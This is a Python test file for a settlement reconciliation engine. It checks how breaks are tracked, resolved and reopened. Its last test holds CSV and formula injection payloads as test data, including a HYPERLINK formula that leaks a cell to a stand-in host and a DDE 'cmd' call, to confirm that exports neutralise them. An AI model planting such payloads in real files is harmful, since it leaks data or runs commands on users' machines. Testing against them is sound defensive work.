"""A break is about one settlement line (or one expected entry): distinct discrepancies on one
reference never merge, a resolved break does not swallow a new one, a break the reconciler
closed is reopened when it occurs again; and what finance exports cannot run as a formula."""

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from typer.testing import CliRunner

from engine.domain.settlement_lines import SettlementLine
from engine.providers.sandbox.registry import SANDBOXED
from engine.settlement.breaks import list_breaks, move_break, show_break
from engine.settlement.run import reconcile_provider_day
from engine.storage.tables import settlement_files
from paysignal.cli import app
from paysignal.simulation.day import run_simulation
from paysignal.simulation.settlement_files import book_lines


def _file(tmp_path: Path, provider: str, day: date, lines: list[SettlementLine],
          tag: str) -> Path:
    [(name, data)] = SANDBOXED[provider].render_report(lines, day).items()
    folder = tmp_path / tag
    folder.mkdir()
    (folder / name).write_bytes(data)
    return folder / name


@pytest.fixture
def charged_and_refunded(db_engine: Engine) -> tuple[Engine, list[SettlementLine], int, int]:
    """A calm simulated day and, from the sandbox's books, a payment that was captured and
    refunded on the same settlement day: (engine, the day's lines, charge index, refund index)."""
    sim = run_simulation(db_engine, payments=80, seed=7, profile="calm")
    assert sim.sandbox is not None
    lines = book_lines(sim.sandbox.books.entries())
    for r, refund in enumerate(lines):
        if refund.kind != "refund":
            continue
        for c, charge in enumerate(lines):
            if (charge.kind == "charge" and charge.provider == refund.provider
                    and charge.provider_reference == refund.provider_reference
                    and charge.settled_on == refund.settled_on):
                day = [x for x in lines if x.provider == charge.provider
                       and x.settled_on == charge.settled_on]
                return db_engine, day, day.index(lines[c]), day.index(lines[r])
    raise AssertionError("the simulated day has no payment captured and refunded")


@pytest.mark.slow
def test_a_charges_and_its_refunds_discrepancies_are_two_breaks(
        charged_and_refunded: tuple[Engine, list[SettlementLine], int, int],
        tmp_path: Path) -> None:
    engine, day_lines, c, r = charged_and_refunded
    wrong = list(day_lines)
    wrong[c] = replace(wrong[c], amount_minor=wrong[c].amount_minor + 100)
    wrong[r] = replace(wrong[r], amount_minor=wrong[r].amount_minor - 7)
    charge = wrong[c]
    path = _file(tmp_path, charge.provider, charge.settled_on, wrong, "a")
    reconcile_provider_day(engine, charge.provider, charge.settled_on, path)
    mine = [b for b in list_breaks(engine, status="open")
            if b["provider_reference"] == charge.provider_reference]
    assert sorted((b["kind"], b["actual_minor"] - b["expected_minor"]) for b in mine) == [
        ("amount_mismatch", -7), ("amount_mismatch", 100)]
    assert len({b["line_key"] for b in mine}) == 2


@pytest.mark.slow
def test_a_resolved_break_does_not_swallow_a_new_discrepancy_and_a_recurring_one_reopens(
        charged_and_refunded: tuple[Engine, list[SettlementLine], int, int],
        tmp_path: Path) -> None:
    engine, day_lines, c, _ = charged_and_refunded
    charge = day_lines[c]
    provider, day = charge.provider, charge.settled_on

    def lines_with(amount_delta: int, line_id: str = "") -> list[SettlementLine]:
        changed = list(day_lines)
        changed[c] = replace(charge, amount_minor=charge.amount_minor + amount_delta,
                             line_id=line_id)
        return changed

    def file_id(name: str) -> str:
        with engine.connect() as conn:
            return str(conn.execute(select(settlement_files.c.id).where(
                settlement_files.c.filename == name, settlement_files.c.status == "imported"
            )).scalar_one())

    def breaks_of_charge() -> list[dict[str, object]]:
        return [b for b in list_breaks(engine) if b["provider_reference"] ==
                charge.provider_reference and b["kind"] == "amount_mismatch"]

    # 1. a wrong amount: a break, which the reconciler closes when a corrected file replaces it,
    # and reopens (audited) when a later correction brings the same wrong line back
    first = _file(tmp_path, provider, day, lines_with(50), "1")
    reconcile_provider_day(engine, provider, day, first)
    [brk] = breaks_of_charge()
    fixed = _file(tmp_path, provider, day, lines_with(0), "2")
    reconcile_provider_day(engine, provider, day, fixed, supersedes=file_id(first.name))
    assert show_break(engine, str(brk["id"]))["status"] == "resolved"
    again = _file(tmp_path, provider, day, lines_with(50), "3")
    again.write_bytes(again.read_bytes() + b"\n")  # not byte-identical to the first
    reconcile_provider_day(engine, provider, day, again, supersedes=file_id(fixed.name))
    shown = show_break(engine, str(brk["id"]))
    assert shown["status"] == "open"
    assert [(a["from_status"], a["to_status"], a["actor"]) for a in shown["audit"]] == [
        ("open", "resolved", "reconciler"), ("resolved", "open", "reconciler")]
    assert "found again" in shown["audit"][-1]["note"]

    # 2. a person resolves it; the provider then re-issues the line under a new identity with
    # another wrong amount: a new break, the resolved one untouched
    move_break(engine, str(brk["id"]), "resolved", actor="fin-anna", note="agreed with provider")
    reissued = _file(tmp_path, provider, day, lines_with(-30, "reissued-line-1"), "4")
    reconcile_provider_day(engine, provider, day, reissued, supersedes=file_id(again.name))
    found = {str(b["id"]): (b["status"], b["actual_minor"]) for b in breaks_of_charge()}
    assert found.pop(str(brk["id"])) == ("resolved", charge.amount_minor + 50)
    assert list(found.values()) == [("open", charge.amount_minor - 30)]


HOSTILE = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"


def test_exports_and_the_cli_never_run_text_from_a_settlement_file(
        db_url: str, tmp_path: Path, wide_terminal: None) -> None:
    from engine.storage import db

    engine = db.make_engine(db_url)
    day = date(2026, 3, 2)
    lines = [SettlementLine("stripe", "", HOSTILE, "@SUM(A1:A9)", "charge", 1000, 59, "USD", day),
             SettlementLine("stripe", "", "[bold red]pwned[/]", "+cmd|' /C calc'!A0", "charge",
                            2000, 88, "USD", day),
             SettlementLine("stripe", "", "-2+3", "-A1*2", "charge", 3000, 117, "USD", day)]
    path = _file(tmp_path, "stripe", day, lines, "hostile")
    runner = CliRunner()
    shown = runner.invoke(app, ["reconcile", "--provider", "stripe", "--date", "2026-03-02",
                                "--file", str(path), "--database-url", db_url],
                          env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.output
    assert "[bold red]pwned[/]" in shown.stdout  # printed as text, not styled
    out = tmp_path / "breaks.csv"
    exported = runner.invoke(app, ["breaks", "list", "--export", str(out),
                                   "--database-url", db_url])
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    cells = {row["provider_reference"]: row["payment_id"] for row in rows}
    assert cells == {"'" + HOSTILE: "'@SUM(A1:A9)", "[bold red]pwned[/]": "'+cmd|' /C calc'!A0",
                     "'-2+3": "'-A1*2"}
    for row in rows:  # amounts stay numbers a spreadsheet can add up
        assert row["actual_major"] and not row["actual_major"].startswith("'")
    brk = next(r["id"] for r in rows if "pwned" in r["provider_reference"])
    detail = runner.invoke(app, ["breaks", "show", brk, "--database-url", db_url])
    assert "provider reference [bold red]pwned[/]" in detail.stdout
    engine.dispose()
